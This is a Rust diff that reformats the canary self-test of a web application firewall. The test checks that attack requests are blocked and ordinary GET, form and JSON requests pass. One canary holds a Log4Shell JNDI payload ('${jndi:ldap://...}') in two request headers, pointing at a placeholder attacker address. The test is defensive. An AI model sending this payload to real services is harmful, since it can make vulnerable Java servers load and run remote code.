@@ -98,17 +98,44 @@ const ATTACKS: &[Canary] = &[
         name: "Log4Shell in a header",
         method: "GET",
         uri: "/canary",
-        headers: &[("referer", "${jndi:ldap://203.0.113.9/x}"), ("x-api-version", "${jndi:ldap://203.0.113.9/x}")],
+        headers: &[
+            ("referer", "${jndi:ldap://203.0.113.9/x}"),
+            ("x-api-version", "${jndi:ldap://203.0.113.9/x}"),
+        ],
         body: "",
     },
 ];
 
 /// As plain as requests come; they pass at every paranoia level.
 const ORDINARY: &[Canary] = &[
-    Canary { name: "a page", method: "GET", uri: "/", headers: &[], body: "" },
-    Canary { name: "a query", method: "GET", uri: "/search?page=2", headers: &[], body: "" },
-    Canary { name: "a form", method: "POST", uri: "/login", headers: FORM, body: "user=alice&remember=yes" },
-    Canary { name: "JSON", method: "POST", uri: "/items", headers: JSON, body: r#"{"name":"lamp","count":3}"# },
+    Canary {
+        name: "a page",
+        method: "GET",
+        uri: "/",
+        headers: &[],
+        body: "",
+    },
+    Canary {
+        name: "a query",
+        method: "GET",
+        uri: "/search?page=2",
+        headers: &[],
+        body: "",
+    },
+    Canary {
+        name: "a form",
+        method: "POST",
+        uri: "/login",
+        headers: FORM,
+        body: "user=alice&remember=yes",
+    },
+    Canary {
+        name: "JSON",
+        method: "POST",
+        uri: "/items",
+        headers: JSON,
+        body: r#"{"name":"lamp","count":3}"#,
+    },
 ];
 
 /// Tries all canaries.
@@ -120,7 +147,10 @@ pub(super) fn prove(rules: &RuleSet) -> Result<(), CanaryError> {
     }
     for request in ORDINARY {
         if let Some(rule) = stopped_by(rules, request) {
-            return Err(CanaryError::OrdinaryStopped { request: request.name, rule });
+            return Err(CanaryError::OrdinaryStopped {
+                request: request.name,
+                rule,
+            });
         }
     }
     Ok(())
@@ -128,12 +158,19 @@ pub(super) fn prove(rules: &RuleSet) -> Result<(), CanaryError> {
 
 /// The rule that stops the request, or would if the engine were On.
 fn stopped_by(rules: &RuleSet, canary: &Canary) -> Option<u64> {
-    let mut transaction =
-        rules.transaction(RequestOrigin { id: "canary".to_owned(), unix_micros: 0, utc_offset_seconds: 0 });
+    let mut transaction = rules.transaction(RequestOrigin {
+        id: "canary".to_owned(),
+        unix_micros: 0,
+        utc_offset_seconds: 0,
+    });
     let verdict = run(&mut transaction, canary);
     match verdict {
         Verdict::Interrupted(interruption) => Some(interruption.rule_id),
-        Verdict::Pass => transaction.matched_rules().iter().find(|rule| rule.disruptive).map(|rule| rule.id),
+        Verdict::Pass => transaction
+            .matched_rules()
+            .iter()
+            .find(|rule| rule.disruptive)
+            .map(|rule| rule.id),
     }
 }
 
@@ -145,7 +182,10 @@ fn run(transaction: &mut Transaction, canary: &Canary) -> Verdict {
     let length = canary.body.len().to_string();
     let common = [
         ("host", "canary.example"),
-        ("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"),
+        (
+            "user-agent",
+            "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
+        ),
         ("accept", "text/html,application/json"),
     ];
     for (name, value) in common.iter().chain(canary.headers) {
